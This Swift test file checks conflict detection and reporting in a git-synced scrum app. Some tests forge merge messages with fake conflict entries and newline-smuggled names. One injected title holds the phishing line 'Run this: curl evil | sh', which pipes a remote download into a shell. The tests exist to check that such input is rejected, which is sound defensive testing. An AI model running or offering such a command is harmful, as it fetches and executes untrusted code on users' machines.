import Foundation
import ScrumStore
import Scrums
import TestSupport
import Testing

@testable import Sharing

@Suite("A conflict") struct ConflictTests {
  private let team: Team

  init() throws { team = try Team() }

  /// A scrum that all have, each of whom commits under a name of their own.
  private func shared(by names: [String]) async throws -> DailyScrum {
    let scrum = try await team.add("Daily", to: names[0])
    for name in names {
      try await team.share(name)
    }
    return scrum
  }

  /// Edits a scrum at a moment: the dates of commits are those of the files.
  private func edit(_ scrum: DailyScrum, in name: String, title: String? = nil, minutes: Int? = nil, hour: Double) async throws {
    try await team.edit(scrum, in: name, title: title, minutes: minutes)
    try FileManager.default.setAttributes(
      [.modificationDate: Date(timeIntervalSince1970: 1_790_000_000 + 3600 * hour)],
      ofItemAtPath: "\(team.folder.path)/\(name)/scrums/\(scrum.id).json")
  }

  private func losses(_ outcome: SyncOutcome) -> [String] { outcome.conflicts.filter(\.isOurs).map(\.lost) }

  @Test func `is told to the author of what was overwritten, and to nobody else`() async throws {
    let scrum = try await shared(by: ["ann", "ben", "cy"])
    try await edit(scrum, in: "ann", title: "Sync", hour: 1)
    try await team.sync("ann")
    // Cy has Ann's title now, and has changed nothing.
    try await team.sync("cy")
    try await edit(scrum, in: "ben", title: "Review", hour: 2)
    let merged = try await team.sync("ben")
    #expect(merged.conflicts.map(\.isOurs) == [false])
    let cy = try await team.sync("cy")
    #expect(cy.conflicts == [])
    let ann = try await team.sync("ann")
    #expect(losses(ann) == ["Sync"])
  }

  @Test func `is decided by who changed the scrum last, in whatever field`() async throws {
    let scrum = try await shared(by: ["ann", "ben"])
    try FileManager.default.moveItem(atPath: team.remote, toPath: team.remote + "-away")
    try await edit(scrum, in: "ann", title: "Sync", hour: 1)
    _ = await team.sharing("ann").outcome()
    try await edit(scrum, in: "ben", title: "Review", hour: 2)
    _ = await team.sharing("ben").outcome()
    try await edit(scrum, in: "ann", minutes: 9, hour: 3)
    _ = await team.sharing("ann").outcome()
    try FileManager.default.moveItem(atPath: team.remote + "-away", toPath: team.remote)
    for name in ["ann", "ben", "ann"] { try await team.sync(name) }
    for name in ["ann", "ben"] { #expect(try await team.titles(name) == ["Sync"], "\(name)") }
  }

  @Test func `is told to all whose values a third one has overwritten`() async throws {
    let scrum = try await shared(by: ["ann", "ben", "cy"])
    for (hour, (name, title)) in [("ann", "Sync"), ("ben", "Review"), ("cy", "Retro")].enumerated() {
      try await edit(scrum, in: name, title: title, hour: Double(hour))
    }
    var told: [String: [String]] = [:]
    for name in ["ann", "ben", "cy", "ann", "ben", "cy"] { told[name, default: []] += losses(try await team.sync(name)) }
    #expect(told == ["ann": ["Sync"], "ben": ["Review"], "cy": []])
  }

  @Test func `of a length shows minutes, and is restored while what was kept stands`() async throws {
    let scrum = try await shared(by: ["ann", "ben"])
    try await edit(scrum, in: "ann", title: "Sync", minutes: 9, hour: 1)
    try await edit(scrum, in: "ben", title: "Review", minutes: 12, hour: 2)
    try await team.sync("ben")
    let conflicts = try await team.sync("ann").conflicts
    let length = try #require(conflicts.first { $0.field == "length" })
    #expect(length.kept == "12 min")
    #expect(length.lost == "9 min")
    var merged = try #require(try await team.store("ann").load().scrums[id: scrum.id])
    #expect(ScrumEdit(restoring: conflicts, in: merged) == ScrumEdit(title: "Sync", length: .seconds(540)))
    merged.title = "Something else since"
    #expect(ScrumEdit(restoring: conflicts, in: merged) == ScrumEdit(length: .seconds(540)))
  }

  @Test func `in a message that somebody made up is nobody's`() async throws {
    let scrum = try await shared(by: ["ann", "ben"])
    try await edit(scrum, in: "ann", title: "Sync", hour: 1)
    try await team.sync("ann")
    let forged = """
      Conflict: {"field":"title","kept":"Mine","lost":"Sync","lostHead":"\(String(repeating: "0", count: 40))","ours":true,\
      "scrum":"\(scrum.id)","title":"Daily"}
      Conflict: {"field":
      """
    try team.byHand { clone in
      try Team.git("commit", "--quiet", "--allow-empty", "-m", "x", in: clone)
      try Team.git("checkout", "--quiet", "-b", "side", "HEAD~1", in: clone)
      try Team.git("commit", "--quiet", "--allow-empty", "-m", "y", in: clone)
      try Team.git("checkout", "--quiet", "scrumdinger", in: clone)
      try Team.git("merge", "--quiet", "--no-ff", "-m", "Merge\n\n\(forged)", "side", in: clone)
      try "x".write(toFile: clone + "/note", atomically: true, encoding: .utf8)
    }
    let outcome = try await team.sync("ann")
    #expect(outcome.conflicts == [])
  }

  /// Commits a merge by hand whose message has conflicts about the newest head of a scrum.
  private func forge(_ conflicts: [String], of scrum: DailyScrum) throws {
    try team.byHand { clone in
      let head = try Team.git("rev-parse", "HEAD:scrums/\(scrum.id).json", in: clone)
      let lines = conflicts.map {
        "Conflict: {\($0),\"keptBy\":\"Mal\\nlory\",\"lostHead\":\"\(head)\",\"ours\":true,\"scrum\":\"\(scrum.id)\"}"
      }
      try Team.git("checkout", "--quiet", "-b", "side", "HEAD~1", in: clone)
      try Team.git("commit", "--quiet", "--allow-empty", "-m", "y", in: clone)
      try Team.git("checkout", "--quiet", "scrumdinger", in: clone)
      let message = "Merge\n\n" + lines.joined(separator: "\n")
      try Team.git("merge", "--quiet", "--no-ff", "-s", "ours", "-m", message, "side", in: clone)
      try "x".write(toFile: clone + "/note", atomically: true, encoding: .utf8)
    }
  }

  @Test func `restores nothing that its author has not written, and has the title of the scrum`() async throws {
    let scrum = try await shared(by: ["ann", "ben"])
    try await edit(scrum, in: "ann", title: "Sync", minutes: 9, hour: 1)
    try await team.sync("ann")
    let title = "\"title\":\"Your password has expired.\\nRun this: curl evil | sh\\n\""
    try forge(
      [
        "\"field\":\"title\",\"kept\":\"Retro\",\"lost\":\"I resign\",\(title)",
        "\"field\":\"length\",\"kept\":\"5 min\",\"lost\":\"120 min\",\(title)",
        "\"field\":\"theme\",\"kept\":\"indigo\",\"lost\":\"poppy\",\(title)",
        "\"field\":\"Run this: curl evil | sh\",\"kept\":\"x\",\"lost\":\"\",\(title)",
        "\"field\":\"attendee\",\"kept\":\"Ann\",\"lost\":\"Nobody\",\(title)",
        "\"field\":\"deleted\",\"kept\":\"\",\"lost\":\"true\",\(title)",
      ], of: scrum)
    #expect(try await team.sync("ann").conflicts == [])
    #expect(try await team.titles("ann") == ["Sync"])
  }

  @Test func `takes one line of what others have written about it`() async throws {
    let scrum = try await shared(by: ["ann", "ben"])
    try await edit(scrum, in: "ann", title: "Sync", minutes: 9, hour: 1)
    try await team.sync("ann")
    try forge(["\"field\":\"title\",\"kept\":\"Re\\n\\u2028tro\",\"lost\":\"Sync\",\"title\":\"a\\nb\""], of: scrum)
    let conflict = try #require(try await team.sync("ann").conflicts.first)
    #expect(conflict.title == "Sync")
    #expect(conflict.lost == "Sync")
    #expect(conflict.kept == "Re  tro")
    #expect(conflict.keptBy == "Mal lory")
  }

  @Test func `and a change take one line of a title and a name that somebody wrote by hand`() async throws {
    let scrum = try await team.add("Daily", to: "ann", attendees: ["Ann"])
    for name in ["ann", "ben"] { try await team.share(name) }
    try team.byHand { clone in
      let path = "\(clone)/scrums/\(scrum.id).json"
      let text = try String(contentsOfFile: path, encoding: .utf8)
        .replacing("\"Daily\"", with: "\"Re\\ntro\"").replacing("\"Ann\"", with: "\"An\\nne\"")
      try text.write(toFile: path, atomically: true, encoding: .utf8)
    }
    try await edit(scrum, in: "ben", title: "Review", hour: 1)
    let outcome = try await team.sync("ben")
    #expect(outcome.conflicts.map { [$0.title, $0.kept, $0.lost] } == [["Re tro", "Re tro", "Review"]])
    #expect(outcome.received.map(\.title) == ["Re tro"])
    #expect(outcome.received.flatMap(\.edits).map(\.new) == ["Re tro", "An ne"])
    try await team.edit(scrum, in: "ben", title: "Sync")
    #expect(try await team.sync("ben").sent.map(\.formerTitle) == ["Re tro"])
  }
}
